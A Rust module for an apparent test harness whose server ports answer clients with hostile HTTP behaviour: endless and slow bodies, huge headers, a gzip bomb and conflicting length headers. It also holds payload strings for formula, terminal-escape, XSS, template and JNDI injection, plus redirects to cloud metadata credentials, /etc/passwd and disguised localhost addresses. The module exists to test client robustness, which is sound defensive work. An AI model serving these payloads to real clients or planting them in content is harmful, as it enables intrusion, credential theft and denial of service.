//! Peers that mean harm: endless, slow, huge and lying answers. Each stops as soon as the client goes.

use super::connection::{Connection, IDLE, Peer, gone, idle};
use crate::draft::Hostile;
use crate::pki::derive;
use std::io::Write;
use std::sync::OnceLock;
use std::time::Duration;
use tokio::io::{AsyncReadExt, AsyncWriteExt};

const HEAD: &str = "HTTP/1.1 200 OK\r\nServer: hostile\r\nContent-Type: text/html\r\n";
/// Bytes that a bomb unpacks to: 10 GiB.
const BOMB_CHUNKS: usize = 10 << 10;
/// What 64 KiB of an endless answer take: some 6 MB/s.
const CHUNK: Duration = Duration::from_millis(10);
/// A byte of a slow answer.
const DRIP: Duration = Duration::from_secs(1);
/// A header line that no client should take, in bytes.
const BIG_HEADER_BYTES: usize = 1 << 20;
/// Text that attacks whoever prints, exports or evaluates it.
const NASTY: &str = "=cmd|' /C calc'!A0 \u{1b}]0;pwned\u{7}\u{1b}[2J\u{1b}[31m<img src=x \
                     onerror=alert(1)>\"';--\r\n@SUM(1+1) \u{202e}gnp.exe \0 {{7*7}} ${jndi:ldap://x}";

/// A port on which every connection is hostile.
pub(super) async fn serve(connection: &Connection, behaviour: Hostile, stream: &mut impl Peer) {
    match behaviour {
        Hostile::Silent => return idle(connection, stream).await,
        Hostile::ResetAtOnce => return connection.reset(),
        Hostile::Noise => return noise(connection, stream).await,
        Hostile::TlsGarbage => {
            let mut first = [0; 5];
            if connection.within(IDLE, stream.read_exact(&mut first)).await.is_none_or(|read| read.is_err()) {
                return;
            }
            let mut bytes = vec![0x16, 3, 3, 0xff, 0xff, 2, 0, 0xff, 0xfb];
            bytes.extend(garbage(connection, 70_000));
            if stream.write_all(&bytes).await.is_ok() {
                connection.within(Duration::from_secs(30), gone(stream)).await;
            }
            return;
        }
        _ => {}
    }
    if request(connection, stream).await {
        after_request(connection, behaviour, stream).await;
    }
}

/// Reads to the end of a request's head; false when there was none.
async fn request(connection: &Connection, stream: &mut impl Peer) -> bool {
    let read = async {
        let mut head = Vec::new();
        while !head.ends_with(b"\r\n\r\n") {
            match stream.read_u8().await {
                Ok(byte) if head.len() < 64 << 10 => head.push(byte),
                _ => return false,
            }
        }
        let text = String::from_utf8_lossy(&head).to_ascii_lowercase();
        let host = text
            .lines()
            .find_map(|line| line.strip_prefix("host:"))
            .map(|host| host.trim().split(':').next().unwrap_or_default().to_owned());
        if let Some(host) = host {
            connection.visit.asked(Some(&host), "http");
        }
        true
    };
    connection.within(Duration::from_secs(20), read).await.unwrap_or(false)
}

/// What follows a request. Errors of writing mean that the client has gone.
pub(super) async fn after_request(connection: &Connection, behaviour: Hostile, stream: &mut impl Peer) {
    let _ = misbehave(connection, behaviour, stream).await;
    let _ = stream.flush().await;
}

async fn misbehave(connection: &Connection, behaviour: Hostile, stream: &mut impl Peer) -> std::io::Result<()> {
    match behaviour {
        Hostile::Endless => {
            head(stream, "Transfer-Encoding: chunked\r\n\r\n").await?;
            let chunk = [b"10000\r\n".as_slice(), &[b'A'; 65_536], b"\r\n"].concat();
            for_ever(connection, stream, &chunk).await
        }
        Hostile::EndlessLength => {
            head(stream, "Content-Length: 9999999999999\r\n\r\n").await?;
            for_ever(connection, stream, &[b'B'; 65_536]).await
        }
        Hostile::Bomb => bomb(connection, stream).await,
        Hostile::SlowHead => drip(connection, stream, &format!("{HEAD}X: {}", "y".repeat(100_000))).await,
        Hostile::SlowBody => {
            head(stream, "Content-Length: 100000\r\n\r\n").await?;
            drip(connection, stream, &"z".repeat(100_000)).await
        }
        Hostile::HugeHeader => {
            head(stream, "").await?;
            for_ever(connection, stream, format!("X-H: {}\r\n", "h".repeat(65_000)).as_bytes()).await
        }
        Hostile::BigHeader => {
            let line = format!("X-Big: {}\r\nContent-Length: 2\r\n\r\nok", "b".repeat(BIG_HEADER_BYTES));
            head(stream, &line).await
        }
        Hostile::RedirectMetadata
        | Hostile::RedirectFile
        | Hostile::RedirectMapped
        | Hostile::RedirectDecimal
        | Hostile::RedirectHex => redirect(stream, target(behaviour)).await,
        Hostile::RedirectLoop => {
            redirect(stream, &format!("/{}", connection.fresh("loop", &connection.to.to_string()))).await
        }
        Hostile::Nasty => nasty(stream).await,
        Hostile::Nested | Hostile::Regex | Hostile::InvalidUtf8 => whole(stream, &body(behaviour)).await,
        Hostile::Smuggle => smuggle(connection, stream).await,
        Hostile::Continue => {
            for_ever(connection, stream, "HTTP/1.1 100 Continue\r\n\r\n".repeat(1_000).as_bytes()).await
        }
        Hostile::Reset => {
            head(stream, "Content-Length: 5000\r\n\r\n<html><title>cut").await?;
            stream.flush().await?;
            connection.reset();
            Ok(())
        }
        Hostile::ShortBody => head(stream, "Content-Length: 5000\r\n\r\n<html><title>short</title>").await,
        Hostile::NotHttp => stream.write_all(b"HTTP/9.9 banana\r\n\xff\xff\xff\r\n\r\n").await,
        Hostile::Noise => {
            noise(connection, stream).await;
            Ok(())
        }
        Hostile::Silent | Hostile::TlsGarbage => {
            idle(connection, stream).await;
            Ok(())
        }
        Hostile::ResetAtOnce => {
            connection.reset();
            Ok(())
        }
    }
}

/// Where a redirect leads that must not be followed.
fn target(behaviour: Hostile) -> &'static str {
    match behaviour {
        Hostile::RedirectMetadata => "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
        Hostile::RedirectMapped => "http://[::ffff:127.0.0.1]:9120/",
        Hostile::RedirectDecimal => "http://2130706433:9120/",
        Hostile::RedirectHex => "http://0x7f.1:9120/",
        _ => "file:///etc/passwd",
    }
}

/// Returns a body that is expensive to parse.
fn body(behaviour: Hostile) -> Vec<u8> {
    match behaviour {
        Hostile::Nested => "<div>".repeat(500_000).into_bytes(),
        Hostile::Regex => format!("<html><title>{}!</title>{}", "a".repeat(200_000), " ".repeat(200_000)).into_bytes(),
        _ => b"<html><title>\xff\xfe\xc0\xaf\x80</title><body>\xed\xa0\x80</body>".to_vec(),
    }
}

/// A head and a page that attack whoever prints, exports or evaluates them.
async fn nasty(stream: &mut impl Peer) -> std::io::Result<()> {
    let body = format!("<html><title>{NASTY}</title><body>x");
    let text = format!(
        "HTTP/1.1 200 OK\r\nServer: \u{1b}[31mevil\u{1b}[0m =1+1\r\nContent-Length: {}\r\n\r\n{body}",
        body.len()
    );
    stream.write_all(text.as_bytes()).await
}

/// An answer whose head says its length three times, each time another one (RFC 9112 §6.3).
async fn smuggle(connection: &Connection, stream: &mut impl Peer) -> std::io::Result<()> {
    let text = "HTTP/1.1 200 OK\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\nContent-Length: \
                99\r\n\r\nffffffffffffffff\r\nhello";
    stream.write_all(text.as_bytes()).await?;
    stream.flush().await?;
    connection.within(IDLE, gone(stream)).await;
    Ok(())
}

async fn head(stream: &mut impl Peer, rest: &str) -> std::io::Result<()> {
    stream.write_all(format!("{HEAD}{rest}").as_bytes()).await
}

async fn whole(stream: &mut impl Peer, body: &[u8]) -> std::io::Result<()> {
    head(stream, &format!("Content-Length: {}\r\n\r\n", body.len())).await?;
    stream.write_all(body).await
}

async fn redirect(stream: &mut impl Peer, target: &str) -> std::io::Result<()> {
    let text = format!("HTTP/1.1 302 Found\r\nLocation: {target}\r\nContent-Length: 0\r\nConnection: close\r\n\r\n");
    stream.write_all(text.as_bytes()).await
}

/// Until the client goes. What is sent takes its time, so that time-outs of the client come as they would.
async fn for_ever(connection: &Connection, stream: &mut impl Peer, bytes: &[u8]) -> std::io::Result<()> {
    loop {
        stream.write_all(bytes).await?;
        connection.clock.sleep(CHUNK).await;
    }
}

async fn drip(connection: &Connection, stream: &mut impl Peer, text: &str) -> std::io::Result<()> {
    for byte in text.bytes() {
        stream.write_all(&[byte]).await?;
        stream.flush().await?;
        if !connection.pause(DRIP, stream).await {
            break;
        }
    }
    Ok(())
}

async fn noise(connection: &Connection, stream: &mut impl Peer) {
    let bytes = garbage(connection, 65_536);
    let _ = for_ever(connection, stream, &bytes).await;
}

/// Bytes without sense, the same at every visit of the same port.
fn garbage(connection: &Connection, length: usize) -> Vec<u8> {
    let mut bytes = Vec::with_capacity(length + 32);
    let mut block = 0;
    while bytes.len() < length {
        bytes.extend(derive(&connection.internet.world, "noise", &format!("{} {block}", connection.to)));
        block += 1;
    }
    bytes.truncate(length);
    bytes
}

/// Ten GiB of zeros, packed: the first MiB, and one MiB that repeats.
async fn bomb(connection: &Connection, stream: &mut impl Peer) -> std::io::Result<()> {
    static PARTS: OnceLock<(Vec<u8>, Vec<u8>)> = OnceLock::new();
    let (first, again) = PARTS.get_or_init(|| {
        let mut encoder = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
        let mut part = || {
            encoder.write_all(&[0; 1 << 20]).and_then(|()| encoder.flush()).expect("memory takes every byte");
            std::mem::take(encoder.get_mut())
        };
        (part(), part())
    });
    head(stream, "Content-Encoding: gzip\r\nConnection: close\r\n\r\n").await?;
    stream.write_all(first).await?;
    for chunk in 1..BOMB_CHUNKS {
        stream.write_all(again).await?;
        if chunk % 64 == 0 {
            connection.clock.sleep(CHUNK).await;
        }
    }
    Ok(())
}
